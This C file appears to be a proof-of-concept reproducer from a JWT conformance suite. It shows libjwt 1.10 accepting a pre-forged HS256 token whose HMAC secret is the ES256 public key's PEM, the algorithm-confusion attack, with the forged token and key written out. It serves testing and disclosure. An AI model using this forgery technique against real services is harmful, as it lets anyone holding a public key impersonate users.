/* libjwt 1.10 verifies an HS256 token whose HMAC secret is the ES256 public key's PEM: the
 * algorithm comes from the token's header, and the PEM the application passes as the ES256
 * verification key is used as the HMAC secret. Anyone holding the public key can mint tokens.
 *
 * RFC 8725 §3.1 (RFC8725-3.1-alg): "Libraries MUST enable the caller to specify a supported set
 * of algorithms and MUST NOT use any other algorithms when performing cryptographic
 * operations. ... each key MUST be used with exactly one algorithm". The documented attack:
 * CVE-2015-9235, CVE-2016-10555 (algorithm confusion with a public key as the HMAC secret).
 * libjwt 1.10 takes no algorithm setting (jwt_valid_* arrived in 1.12), so the application
 * cannot pin ES256. The token has no typ: libjwt refuses a typ other than "JWT" before it
 * verifies, so it meets this attack on tokens with no typ or typ JWT.
 *
 * Reproduces: confusion/hs256-pem-no-typ (forgery)
 *
 * libjwt is configured exactly as the jwt-conformance adapter does (adapters/libjwt/adapter.c):
 * jwt_decode with the SPKI PEM of the key set's only JWK (kid "primary", P-256 x
 * Og9O0oqYw6X3WZLhErumXMqF78CgL9XjmicCJocZZuE, y opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI),
 * as OpenSSL writes it. The vector's profile: issuer "https://issuer.example", audience
 * "https://api.example", algorithms [ES256], now 1700000000.
 *
 * Run (Debian libjwt-dev installed): bash scripts/setup/c.sh && adapters/libjwt/bin/repro
 * or: gcc -o repro adapters/libjwt/repro.c $(pkg-config --cflags --libs libjwt) && ./repro
 */
#include <stdio.h>
#include <string.h>

#include <jwt.h>

static const char TOKEN[] =
    "eyJhbGciOiJIUzI1NiIsImtpZCI6InByaW1hcnkifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoi"
    "Y2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIs"
    "Imp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.fIuU4WTC5SOOe2WBj-aQTl-fDYSQeW2"
    "AXxUfUUMgo1M";

static const char PEM[] = "-----BEGIN PUBLIC KEY-----\n"
                          "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEOg9O0oqYw6X3WZLhErumXMqF78Cg\n"
                          "L9XjmicCJocZZuGinMEypj0Ctf45TM1bRvKrHzQlCLDIg9FPJ2MF0cMsQg==\n"
                          "-----END PUBLIC KEY-----\n";

int main(void)
{
    jwt_t *jwt = NULL;
    int ret = jwt_decode(&jwt, TOKEN, (const unsigned char *)PEM, (int)strlen(PEM));
    if (ret != 0) {
        printf("NOT REPRODUCED confusion/hs256-pem-no-typ: jwt_decode refused the token (%s)\n",
               strerror(ret));
        return 1;
    }
    printf("REPRODUCED confusion/hs256-pem-no-typ: jwt_decode accepted an %s token keyed with the "
           "ES256 public key's PEM (sub \"%s\")\n",
           jwt_alg_str(jwt_get_alg(jwt)), jwt_get_grant(jwt, "sub"));
    jwt_free(jwt);
    return 0;
}
